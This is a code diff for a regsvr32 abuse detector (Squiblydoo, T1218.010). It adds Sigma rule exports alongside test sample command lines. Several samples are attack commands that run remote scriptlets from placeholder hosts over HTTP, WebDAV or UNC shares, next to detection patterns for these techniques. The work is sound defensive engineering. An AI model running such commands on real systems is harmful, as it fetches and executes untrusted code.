@@ -11,6 +11,8 @@ from . import cmdline, winpath
 from .fields import (DNS, FILE, IMAGE_LOAD, NETWORK, PERSISTENCE, PROCESS, REGISTRY,
                      REMOTE_THREAD, REGSVR32)
 from .registry import COMMAND_LINE, actor, any_event, child, finish, relaunch, rule
+from .sigma_spec import (BY_REGSVR32, CLI, IMG, NON_PUBLIC, by_parent, ends, not_exportable,
+                         spec)
 
 T = "T1218.010"
 
@@ -129,7 +131,12 @@ def _clip(text, n=160):
       negatives=(
         "regsvr32 /s scrobj.dll",
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        "regsvr32 /s C:\\Users\\Public\\a.sct C:\\Windows\\System32\\msxml6.dll",))
+        "regsvr32 /s C:\\Users\\Public\\a.sct C:\\Windows\\System32\\msxml6.dll",),
+      sigma=spec("approximate", "process_creation",
+                 {"selection_img": IMG, "selection_cli": {"CommandLine|windash|contains": " -i:",
+                                                          "CommandLine|contains": "scrobj"}},
+                 "selection_img and selection_cli",
+                 CLI + " an /i: switch and 'scrobj' anywhere, not scrobj.dll as the module"))
 def squiblydoo(inv):
     scrobj = ("module name", "scrobj.dll") in inv.first
     if inv.install_arg is None:
@@ -158,7 +165,11 @@ def squiblydoo(inv):
         "regsvr32 /u /i:file://files.example.org/share/a.sct scrobj.dll",),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        "regsvr32 /s /n /i:user C:\\x\\a.dll",))
+        "regsvr32 /s /n /i:user C:\\x\\a.dll",),
+      sigma=spec("approximate", "process_creation",
+                 {"selection_img": IMG, "selection_cli": {
+                     "CommandLine|contains": ["http://", "https://", "ftp://", "file://"]}},
+                 "selection_img and selection_cli", CLI + " a URL anywhere, not as a target"))
 def remote_url(inv):
     t = _first(inv, "kind", "url")
     if t is None:
@@ -179,7 +190,13 @@ def remote_url(inv):
         "regsvr32 /s \\\\192.0.2.44\\share\\x.dll",),
       negatives=(
         "regsvr32 /s /u /i:http://7zip.example.com/a.sct scrobj.dll",
-        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",))
+        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
+      sigma=spec("approximate", "process_creation",
+                 {"selection_img": IMG, "selection_cli": {"CommandLine|re":
+                  r"(?i)(?:(?:https?|ftp)://|\\\\)(?:\[[0-9a-f:.]+\]|0x[0-9a-f]+|[0-9]+(?:\.(?:0x[0-9a-f]+|[0-9]+)){0,3})(?:[:/\\]|$)"}},
+                 "selection_img and selection_cli",
+                 "a regular expression for IP literals after a scheme or \\\\; the detector "
+                 "decodes every notation inet_aton accepts"))
 def ip_host(inv):
     t = _first(inv, "ip", True)
     if t is None:
@@ -203,7 +220,8 @@ def ip_host(inv):
          "CurrentDirectory": "C:\\ProgramData\\"},),
       negatives=(
         "regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll",
-        'regsvr32 /s /n /i:user "C:\\Program Files\\A\\b.dll"',))
+        'regsvr32 /s /n /i:user "C:\\Program Files\\A\\b.dll"',),
+      sigma=not_exportable("needs to know which module receives the /i: argument (parsed command line)"))
 def renamed_scrobj(inv):
     if inv.install is None or ("module name", "scrobj.dll") in inv.first:
         return None
@@ -224,7 +242,12 @@ def renamed_scrobj(inv):
         "regsvr32 \u2013s \u2013i:x C:\\Tools\\a.dll",),
       negatives=(
         "regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll",
-        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",))
+        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
+      sigma=spec("approximate", "process_creation",
+                 {"selection_img": IMG, "selection_i": {"CommandLine|windash|contains": " -i"},
+                  "filter_n": {"CommandLine|windash|contains": " -n"}},
+                 "selection_img and selection_i and not filter_n",
+                 "switches found as substrings; the detector reads combined switch groups"))
 def install_without_n(inv):
     if "i" not in inv.flags or "n" in inv.flags:
         return None
@@ -251,7 +274,9 @@ def install_without_n(inv):
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
         'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',
         "regsvr32  DevExpress.Data.v14.1.dll",
-        "regsvr32 /s /u C:\\Users\\Public\\x.dll",))
+        "regsvr32 /s /u C:\\Users\\Public\\x.dll",),
+      sigma=not_exportable("needs the module's resolved folder; the image path at the start of the line "
+                           "defeats a substring filter (the flaw of Sigma ce2c44b5)"))
 def silent_register_outside(inv):
     if not inv.flags & {"s", "e"} or inv.flags & {"i", "u"}:
         return None
@@ -298,7 +323,15 @@ USER_FILE_FOLDERS = frozenset(("Downloads", "Desktop", "Documents"))
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
         'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',
-        "regsvr32 /s C:\\Users\\bob\\AppData\\Local\\Vendor\\App\\shellext.dll",))
+        "regsvr32 /s C:\\Users\\bob\\AppData\\Local\\Vendor\\App\\shellext.dll",),
+      sigma=spec("approximate", "process_creation",
+                 {"selection_img": IMG, "selection_path": {"CommandLine|contains": [
+                     "\\AppData\\", "\\Temp\\", ":\\Users\\Public\\", ":\\ProgramData\\",
+                     "\\Downloads\\", "\\Desktop\\", "\\Documents\\", "\\Pictures\\",
+                     "\\Music\\", "\\Windows\\Tasks\\"]}},
+                 "selection_img and selection_path",
+                 CLI + " the folder; 8.3 names, '..', %VARIABLES% and relative names resolved "
+                 "against the working directory get past it"))
 def user_writable(inv):
     for t in _payloads(inv):
         if t.staging and t.where not in USER_FILE_FOLDERS:
@@ -320,7 +353,9 @@ def user_writable(inv):
         "regsvr32 -s C:\\Windows\\Temp\\payload",),
       negatives=(
         "regsvr32 /s C:\\ProgramData\\x.dll",
-        'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',))
+        'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',),
+      sigma=not_exportable("needs the module's own extension and folder; any '.dll' in the line defeats a "
+                           "substring match"))
 def writable_non_module(inv):
     # a per-user application folder holds all kinds of files: there, only a disguise counts
     for m in inv.modules:
@@ -344,7 +379,14 @@ def writable_non_module(inv):
         "regsvr32 /s C:\\Windows\\System32\\spool\\drivers\\color\\x.dll",),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',))
+        'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',),
+      sigma=spec("approximate", "process_creation",
+                 {"selection_img": IMG, "selection_path": {"CommandLine|contains": [
+                     ":\\PerfLogs\\", ":\\Temp\\", "\\Windows\\Tracing\\", "\\Registration\\CRMLog",
+                     "\\System32\\com\\dmp\\", "\\FxsTmp\\", "\\spool\\drivers\\color\\",
+                     "\\spool\\PRINTERS\\", "\\spool\\SERVERS\\", "\\Crypto\\RSA\\MachineKeys\\",
+                     "\\System32\\Tasks\\", "\\$Recycle.Bin\\"]}},
+                 "selection_img and selection_path", CLI + " the folder (as R32-007)"))
 def suspicious_folder(inv):
     for t in _payloads(inv):
         if t.location == winpath.SUSPICIOUS:
@@ -365,7 +407,12 @@ def suspicious_folder(inv):
         'regsvr32 /s "C:\\Users\\alice\\AppData\\Local\\Temp\\shell32.jpg" ',),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        "regsvr32 /s C:\\x\\img.jpg.dll",))
+        "regsvr32 /s C:\\x\\img.jpg.dll",),
+      sigma=spec("approximate", "process_creation",
+                 {"selection_img": IMG, "selection_ext": {"CommandLine|re":
+                  r"(?i)\.(?:%s)(?:[\"'\s,]|$)" % "|".join(sorted(winpath.DISGUISED_EXTS))}},
+                 "selection_img and selection_ext",
+                 "any argument ending in a disguise extension, not only the module's"))
 def disguised_extension(inv):
     m = inv.first.get(("module ext", winpath.DISGUISED))
     if m is None:
@@ -385,7 +432,8 @@ def disguised_extension(inv):
         "regsvr32 /s x.foo",),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        "regsvr32 /s C:\\Tools\\stage2",))
+        "regsvr32 /s C:\\Tools\\stage2",),
+      sigma=not_exportable("needs the module's own extension (an allowlist of extensions)"))
 def unusual_extension(inv):
     m = inv.first.get(("module ext", winpath.OTHER_EXT))
     if m is None:
@@ -403,7 +451,10 @@ def unusual_extension(inv):
         'regsvr32 /s "\\\\?\\UNC\\host\\share\\x.dll"',),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        "regsvr32 /s \\\\evil.example@SSL\\DavWWWRoot\\x.dll",))
+        "regsvr32 /s \\\\evil.example@SSL\\DavWWWRoot\\x.dll",),
+      sigma=spec("approximate", "process_creation",
+                 {"selection_img": IMG, "selection_unc": {"CommandLine|re": r"(?:^|[\s\"':])\\\\[^\\\s]"}},
+                 "selection_img and selection_unc", "any \\\\host argument, not only a target"))
 def unc_share(inv):
     t = _first(inv, "kind", "unc")
     if t is None:
@@ -421,7 +472,11 @@ def unc_share(inv):
         "regsvr32 /s \\\\files.example.com@80\\share\\x.dll",),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        "regsvr32 /s \\\\fileserver\\pub\\x.dll",))
+        "regsvr32 /s \\\\fileserver\\pub\\x.dll",),
+      sigma=spec("approximate", "process_creation",
+                 {"selection_img": IMG, "selection_dav": {"CommandLine|contains": [
+                     "\\DavWWWRoot\\", "@SSL\\", "@SSL@", "@80\\", "@443\\", "@8080\\", "@8443\\"]}},
+                 "selection_img and selection_dav", CLI + " a WebDAV path marker"))
 def webdav(inv):
     t = _first(inv, "kind", "webdav")
     if t is None:
@@ -446,7 +501,8 @@ def webdav(inv):
         {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
          "ParentImage": "C:\\Windows\\explorer.exe"},
         {"CommandLine": "regsvr32 /s x.dll",
-         "ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"},))
+         "ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"},),
+      sigma=by_parent(SCRIPT_PARENTS))
 def script_parent(ev):
     return _parent_in(ev, SCRIPT_PARENTS, "script host")
 
@@ -461,7 +517,8 @@ def script_parent(ev):
         {"CommandLine": "regsvr32 -s C:\\Users\\bob\\AppData\\Local\\Temp\\a.ocx",
          "ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"},),
       negatives=(
-        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",))
+        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
+      sigma=by_parent(OFFICE_PARENTS))
 def office_parent(ev):
     return _parent_in(ev, OFFICE_PARENTS, "Office application")
 
@@ -483,7 +540,8 @@ def office_parent(ev):
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
         {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-         "ParentImage": "C:\\Windows\\System32\\msiexec.exe"},))
+         "ParentImage": "C:\\Windows\\System32\\msiexec.exe"},),
+      sigma=by_parent(SERVER_PARENTS))
 def server_parent(ev):
     return _parent_in(ev, SERVER_PARENTS, "server process")
 
@@ -503,7 +561,11 @@ def server_parent(ev):
       negatives=(
         {"Image": "C:\\Windows\\System32\\calc.exe", "CommandLine": "calc.exe"},
         {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},))
+         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},),
+      sigma=spec("exact", "process_creation",
+                 {"selection": {"ParentImage|endswith": "\\regsvr32.exe",
+                                "Image|endswith": ends(SUSPICIOUS_CHILDREN)}},
+                 "selection", ""))
 def suspicious_child(ev):
     if ev.image_name not in SUSPICIOUS_CHILDREN:
         return None
@@ -523,7 +585,11 @@ def suspicious_child(ev):
       negatives=(
         {"Image": "C:\\Windows\\SysWOW64\\regsvr32.exe", "CommandLine": " /s C:\\x\\a.dll",
          "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},
-        {"Image": "C:\\Windows\\System32\\calc.exe", "CommandLine": "calc.exe"},))
+        {"Image": "C:\\Windows\\System32\\calc.exe", "CommandLine": "calc.exe"},),
+      sigma=spec("exact", "process_creation",
+                 {"selection": {"ParentImage|endswith": "\\regsvr32.exe"},
+                  "filter_self": {"Image|endswith": "\\regsvr32.exe"}},
+                 "selection and not filter_self", ""))
 def any_child(ev):
     if ev.image_name in ("", REGSVR32):
         return None
@@ -551,7 +617,14 @@ def any_child(ev):
         {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
          "OriginalFileName": "REGSVR32.EXE"},
         {"Image": "C:\\x\\tool.exe", "CommandLine": "C:\\x\\tool.exe",
-         "OriginalFileName": "tool.exe"},))
+         "OriginalFileName": "tool.exe"},),
+      sigma=spec("approximate", "process_creation",
+                 {"selection": [{"OriginalFileName": "REGSVR32.EXE"},
+                                {"Description": "Microsoft(C) Register Server"}],
+                  "filter_name": {"Image|endswith": "\\regsvr32.exe"}},
+                 "selection and not filter_name",
+                 "by OriginalFileName or description only; the detector also knows a renamed "
+                 "copy by a command line only regsvr32 takes (4688 logs neither)"))
 def renamed_binary(ev):
     if not ev.image_name or ev.image_name == REGSVR32:
         return None
@@ -576,7 +649,11 @@ def renamed_binary(ev):
          "CommandLine": "C:\\Users\\Public\\regsvr32.exe /c echo scrobj.exe /i:"},),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        {"Image": "C:\\Windows\\SysWOW64\\regsvr32.exe", "CommandLine": "regsvr32 /s x.dll"},))
+        {"Image": "C:\\Windows\\SysWOW64\\regsvr32.exe", "CommandLine": "regsvr32 /s x.dll"},),
+      sigma=spec("exact", "process_creation",
+                 {"selection": BY_REGSVR32,
+                  "filter_home": {"Image|contains": list(REGSVR32_HOMES)}},
+                 "selection and not filter_home", ""))
 def unexpected_home(ev):
     # (an image without its folder, or a relative one, is an unknown folder, not an unexpected one)
     image = ev.image.lower().replace("/", "\\")
@@ -596,7 +673,13 @@ def unexpected_home(ev):
         {"DestinationIp": "104.20.208.21", "DestinationPort": "80"},),
       negatives=(
         {"DestinationIp": "10.0.2.15"},
-        {"DestinationIp": "151.101.0.133", "Initiated": "false"},))
+        {"DestinationIp": "151.101.0.133", "Initiated": "false"},),
+      sigma=spec("approximate", "network_connection",
+                 {"selection": dict(BY_REGSVR32, Initiated="true"),
+                  "filter_local": {"DestinationIp|cidr": NON_PUBLIC}},
+                 "selection and not filter_local",
+                 "Initiated must be 'true' (the detector also accepts it missing); the "
+                 "non-public ranges are listed as of Python's ipaddress"))
 def public_connection(ev):
     return _connection(ev, public=True)
 
@@ -610,7 +693,11 @@ def public_connection(ev):
       positives=(
         {"DestinationIp": "10.1.2.3", "DestinationPort": "445"},),
       negatives=(
-        {"DestinationIp": "151.101.0.133"},))
+        {"DestinationIp": "151.101.0.133"},),
+      sigma=spec("approximate", "network_connection",
+                 {"selection": dict(BY_REGSVR32, Initiated="true"),
+                  "selection_local": {"DestinationIp|cidr": NON_PUBLIC}},
+                 "selection and selection_local", "as R32-021"))
 def private_connection(ev):
     return _connection(ev, public=False)
 
@@ -623,7 +710,8 @@ def private_connection(ev):
       positives=(
         {"QueryName": "raw.githubusercontent.com"},),
       negatives=(
-        {"Image": "C:\\Windows\\System32\\svchost.exe", "QueryName": "regsvr32.example"},))
+        {"Image": "C:\\Windows\\System32\\svchost.exe", "QueryName": "regsvr32.example"},),
+      sigma=spec("exact", "dns_query", {"selection": BY_REGSVR32}, "selection", ""))
 def dns_query(ev):
     if not ev.query_name:
         return None
@@ -644,7 +732,12 @@ def dns_query(ev):
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
         {"EventCode": "4688", "NewProcessName": "C:\\Windows\\System32\\regsvr32.exe",
-         "CommandLine": "", "Image": None, "ParentImage": None},))
+         "CommandLine": "", "Image": None, "ParentImage": None},),
+      sigma=spec("approximate", "process_creation",
+                 {"selection_img": IMG, "selection_cli": {"CommandLine|re":
+                  r"(?i)^\s*\"?[^\"]*regsvr32(?:\.exe)?\"?\s*$"}},
+                 "selection_img and selection_cli",
+                 "a regular expression for a command line that is only the program"))
 def no_arguments(inv):
     if not inv.program or inv.args:
         return None
@@ -688,7 +781,13 @@ def _security_product_hook(ev):
       negatives=(
         {"ImageLoaded": "C:\\Windows\\System32\\msxml6.dll"},
         {"ImageLoaded": "C:\\Program Files\\K-Lite Codec Pack\\Filters\\x.ax", "Signed": "false",
-         "SignatureStatus": "Unavailable", "Signature": ""},))
+         "SignatureStatus": "Unavailable", "Signature": ""},),
+      sigma=spec("approximate", "image_load",
+                 {"selection": dict(BY_REGSVR32, Signed="false"),
+                  "filter_trusted": {"ImageLoaded|contains": [
+                      ":\\Windows\\", ":\\Program Files\\", ":\\Program Files (x86)\\"]}},
+                 "selection and not filter_trusted",
+                 "trusted folders by substring; the detector resolves the path first"))
 def unsigned_outside(ev):
     if ev.signed.lower() != "false":
         return None
@@ -709,7 +808,13 @@ def unsigned_outside(ev):
       negatives=(
         {"ImageLoaded": "C:\\Windows\\System32\\msxml6.dll"},
         {"ImageLoaded": "C:\\Program Files\\Vendor\\x.dll", "Signed": "false",
-         "SignatureStatus": "Expired", "Signature": ""},))
+         "SignatureStatus": "Expired", "Signature": ""},),
+      sigma=spec("exact", "image_load",
+                 {"selection": BY_REGSVR32,
+                  "filter_signed": {"Signed": "true"},
+                  "filter_status": {"SignatureStatus": sorted(TRUSTED_SIGNATURE_STATUS)},
+                  "filter_empty": {"SignatureStatus": ""}},
+                 "selection and not filter_signed and not filter_status and not filter_empty", ""))
 def untrusted_signature(ev):
     status = ev.signature_status.lower()
     if ev.signed.lower() == "true" or not status \
@@ -730,7 +835,10 @@ def untrusted_signature(ev):
       negatives=(
         {"ImageLoaded": "C:\\Windows\\System32\\msxml6.dll"},
         {"Image": "C:\\Windows\\System32\\cscript.exe",
-         "ImageLoaded": "C:\\Windows\\System32\\scrobj.dll"},))
+         "ImageLoaded": "C:\\Windows\\System32\\scrobj.dll"},),
+      sigma=spec("exact", "image_load",
+                 {"selection": dict(BY_REGSVR32, **{"ImageLoaded|endswith": ends(SCRIPT_RUNTIMES)})},
+                 "selection", ""))
 def script_runtime_load(ev):
     name = winpath.basename(ev.image_loaded).lower()
     if name not in SCRIPT_RUNTIMES:
@@ -751,7 +859,12 @@ def script_runtime_load(ev):
          "TargetFilename": "C:\\Users\\bob\\AppData\\Local\\Microsoft\\CLR_v4.0_32\\UsageLogs\\regsvr32.exe.log"},),
       negatives=(
         {"ImageLoaded": "C:\\Windows\\System32\\msxml6.dll"},
-        {"EventCode": "11", "TargetFilename": "C:\\Users\\bob\\x.log"},))
+        {"EventCode": "11", "TargetFilename": "C:\\Users\\bob\\x.log"},),
+      sigma=spec("approximate", "image_load",
+                 {"selection": dict(BY_REGSVR32, **{"ImageLoaded|endswith": ends(CLR_MODULES)})},
+                 "selection",
+                 "the image-load half only; the UsageLogs\\regsvr32.exe.log file write is a "
+                 "separate Sigma log source"))
 def clr_in_regsvr32(ev):
     if ev.kind == IMAGE_LOAD and winpath.basename(ev.image_loaded).lower() in CLR_MODULES:
         return "regsvr32 loaded the .NET runtime %s (DotNetToJScript)" % ev.image_loaded
@@ -781,7 +894,8 @@ def clr_in_regsvr32(ev):
         {"ImageLoaded": "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpOAV.dll",
          "Signature": "Microsoft Corporation"},
         {"ImageLoaded": "C:\\ProgramData\\Sophos\\Sophos Anti-Virus\\x64\\sophos_detoured_x64.dll",
-         "Signature": "Sophos Ltd"},))
+         "Signature": "Sophos Ltd"},),
+      sigma=not_exportable("folder classes and extension lists of the loaded module, resolved"))
 def odd_module_load(ev):
     if not ev.image_loaded or _security_product_hook(ev):
         return None
@@ -804,7 +918,8 @@ def odd_module_load(ev):
       negatives=(
         {"Image": "C:\\Windows\\System32\\cscript.exe",
          "ImageLoaded": "C:\\Windows\\System32\\scrobj.dll"},
-        {"ImageLoaded": "C:\\Windows\\System32\\scrobj.dll"},))
+        {"ImageLoaded": "C:\\Windows\\System32\\scrobj.dll"},),
+      sigma=not_exportable("needs the Windows location of the loading image and a list of its hosts"))
 def scrobj_elsewhere(ev):
     if winpath.basename(ev.image_loaded).lower() != "scrobj.dll" or ev.image_name in SCROBJ_HOSTS:
         return None
@@ -834,7 +949,14 @@ def scrobj_elsewhere(ev):
         {"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x",
          "Details": "scrobj"},
         {"TargetObject": "HKLM\\SOFTWARE\\Classes\\CLSID\\{2}\\InprocServer32\\(Default)",
-         "Details": "C:\\Program Files\\A\\a.dll"},))
+         "Details": "C:\\Program Files\\A\\a.dll"},),
+      sigma=spec("approximate", "registry_set",
+                 {"selection_url": {"TargetObject|contains": "\\ScriptletURL"},
+                  "selection_scrobj": {"TargetObject|contains": "\\InprocServer32",
+                                       "Details|endswith": ["\\scrobj.dll", "\\scrobj.dll\""]},
+                  "selection_remcos": {"TargetObject|contains":
+                                       REMCOS_CLSID + "\\InprocServer32"}},
+                 "1 of selection_*", "the registry data is matched by its ending, not parsed"))
 def scrobj_com(ev):
     key = ev.registry_path.lower()
     data = ev.registry_data.lower()
@@ -864,7 +986,11 @@ def scrobj_com(ev):
       negatives=(
         {"Image": "C:\\Windows\\explorer.exe",
          "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\ShellIconOverlayIdentifiers\\ Updater\\(Default)",
-         "Details": "{0F0F}"},))
+         "Details": "{0F0F}"},),
+      sigma=spec("exact", "registry_set",
+                 {"selection": dict(BY_REGSVR32, **{
+                     "TargetObject|contains": "\\ShellIconOverlayIdentifiers\\"})},
+                 "selection", ""))
 def icon_overlay(ev):
     if "\\shelliconoverlayidentifiers\\" not in ev.registry_path.lower():
         return None
@@ -880,7 +1006,9 @@ def icon_overlay(ev):
         {"TargetImage": "C:\\Windows\\explorer.exe"},),
       negatives=(
         {"SourceImage": "C:\\Windows\\System32\\csrss.exe",
-         "TargetImage": "C:\\Windows\\System32\\regsvr32.exe"},))
+         "TargetImage": "C:\\Windows\\System32\\regsvr32.exe"},),
+      sigma=spec("exact", "create_remote_thread",
+                 {"selection": {"SourceImage|endswith": "\\regsvr32.exe"}}, "selection", ""))
 def remote_thread(ev):
     return "regsvr32 created a thread in %s" % (ev.target_image or "another process")
 
@@ -907,7 +1035,9 @@ def remote_thread(ev):
          "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x",
          "Details": "C:\\x\\tool.exe"},
         {"EventCode": "1", "Image": "C:\\Windows\\System32\\schtasks.exe",
-         "CommandLine": "schtasks /query"},))
+         "CommandLine": "schtasks /query"},),
+      sigma=not_exportable("spans four log sources (tasks, services, registry, process creation); Sigma "
+                           "rules 3a734d25 and 614cf376 cover the task part"))
 def persistence(ev):
     if ev.kind == PERSISTENCE:
         text, how = ev.task_content or ev.service_path, (
@@ -944,7 +1074,9 @@ def persistence(ev):
         "regsvr32 /s/u/i:http://example.com/a.sct scrobj.dll",),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        {"CommandLine": "regsvr32 /s ..\\lib\\x.dll", "CurrentDirectory": "C:\\App\\bin"},))
+        {"CommandLine": "regsvr32 /s ..\\lib\\x.dll", "CurrentDirectory": "C:\\App\\bin"},),
+      sigma=not_exportable("finds syntax tricks by parsing (quotes, carets, 8.3 names, '..'); a field "
+                           "match is exactly what they evade"))
 def path_syntax(inv):
     seen = [a for a in inv.anomalies if "switch prefix" not in a and "entry point" not in a]
     for t in inv.targets:
@@ -964,7 +1096,12 @@ def path_syntax(inv):
         "regsvr32 \u2013s \u2013u \u2013i:http://example.com/a.sct scrobj.dll",
         "regsvr32 /s C:\\x\\\u02b0a.dll",),
       negatives=(
-        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",))
+        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
+      sigma=spec("approximate", "process_creation",
+                 {"selection_img": IMG, "selection_cli": {"CommandLine|re":
+                  "[\u2013\u2014\u2015\u02b0-\u02ff\u1d2c-\u1dbf]"}},
+                 "selection_img and selection_cli",
+                 "look-alike dashes and modifier letters anywhere in the line"))
 def unicode_tricks(inv):
     if inv.line.isascii() if hasattr(str, "isascii") else False:
         return None
@@ -991,7 +1128,13 @@ def unicode_tricks(inv):
         {"CommandLine": "regsvr32 /s x.dll", "CurrentDirectory": "D:\\Apps\\Billing"},),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        "regsvr32 /s E:\\invoice.dll",))
+        "regsvr32 /s E:\\invoice.dll",),
+      sigma=spec("approximate", "process_creation",
+                 {"selection_img": IMG, "selection_cli": {"CommandLine|re":
+                  r"(?i)(?:^|[\s\"'])[d-z]:\\"}},
+                 "selection_img and selection_cli",
+                 "an absolute path on drive D: to Z: anywhere in the line; the detector also "
+                 "resolves relative modules against the working directory"))
 def other_drive(inv):
     for m in inv.modules:
         if m.location == winpath.OTHER_DRIVE and m.depth > 0:
@@ -1030,7 +1173,21 @@ CAMPAIGNS = (("Qakbot (-s ... calc)", _qakbot),
         "regsvr32 /s /i C:\\Users\\bob\\AppData\\Roaming\\a.ocx",),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        "regsvr32 /s C:\\Users\\bob\\AppData\\Roaming\\a.dll",))
+        "regsvr32 /s C:\\Users\\bob\\AppData\\Roaming\\a.dll",),
+      sigma=spec("approximate", "process_creation",
+                 {"selection_img": IMG,
+                  "selection_campaign_qakbot": {"CommandLine|windash|contains": " -s",
+                                                "CommandLine|endswith": " calc"},
+                  "selection_campaign_bluemushroom": {"CommandLine|contains|all": [
+                      "\\AppData\\Local\\", ",DllEntry"]},
+                  # windash cannot be combined with all (pySigma), and a regex inside "1 of"
+                  # breaks the Splunk backend's output: the second switch is a plain list
+                  "selection_campaign_evilnum": {"CommandLine|windash|contains": " -i",
+                                                 "CommandLine|contains": [" /s", " -s"],
+                                                 "CommandLine|contains|all": [
+                                                     "\\AppData\\Roaming\\", ".ocx"]}},
+                 "selection_img and 1 of selection_campaign_*",
+                 "the three campaign patterns as substrings"))
 def campaign(inv):
     for name, test in CAMPAIGNS:
         if test(inv):
@@ -1053,7 +1210,8 @@ def campaign(inv):
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
         'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',
-        "regsvr32 /s C:\\Users\\Public\\x.dll",))
+        "regsvr32 /s C:\\Users\\Public\\x.dll",),
+      sigma=not_exportable("needs the module's resolved folder"))
 def unusual_folder(inv):
     m = inv.first.get(("module location", winpath.OTHER))
     if m is None or m.where == "drive root":        # the root itself is R32-041
@@ -1100,7 +1258,8 @@ PROXIES = (("rundll32.exe", "shellexec_rundll"), ("rundll32.exe", "fileprotocolh
         "regsvr32.exe /s C:\\Users\\Public\\payload.dll",
         'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',),
       false_positives="Per-user installs (OneDrive, Teams add-ins, scoop), developers registering "
-                      "their own build output.")
+                      "their own build output.",
+      sigma=not_exportable("needs the module's resolved folder and its depth below the profile or ProgramData"))
 def app_folder(inv):
     for m in inv.modules:
         if m.location == winpath.USER_WRITABLE and not m.staging:
@@ -1123,7 +1282,8 @@ def app_folder(inv):
       negatives=(
         "regsvr32 /s E:\\files\\invoice.dll",
         "regsvr32 /s C:\\Tools\\x.dll",
-        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",))
+        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
+      sigma=not_exportable("needs the module resolved against the working directory (a bare name in a drive root)"))
 def drive_root(inv):
     for m in inv.modules:
         if m.location == winpath.OTHER_DRIVE and m.depth == 0:
@@ -1147,7 +1307,8 @@ def drive_root(inv):
          "ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"},),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
-      false_positives="Software deployment and package managers.")
+      false_positives="Software deployment and package managers.",
+      sigma=by_parent(RUNTIME_PARENTS))
 def runtime_parent(ev):
     return _parent_in(ev, RUNTIME_PARENTS, "PowerShell or application runtime")
 
@@ -1165,7 +1326,8 @@ def runtime_parent(ev):
       negatives=(
         "regsvr32 /s C:\\Windows\\System32\\RpcProxy\\RpcProxy.dll",
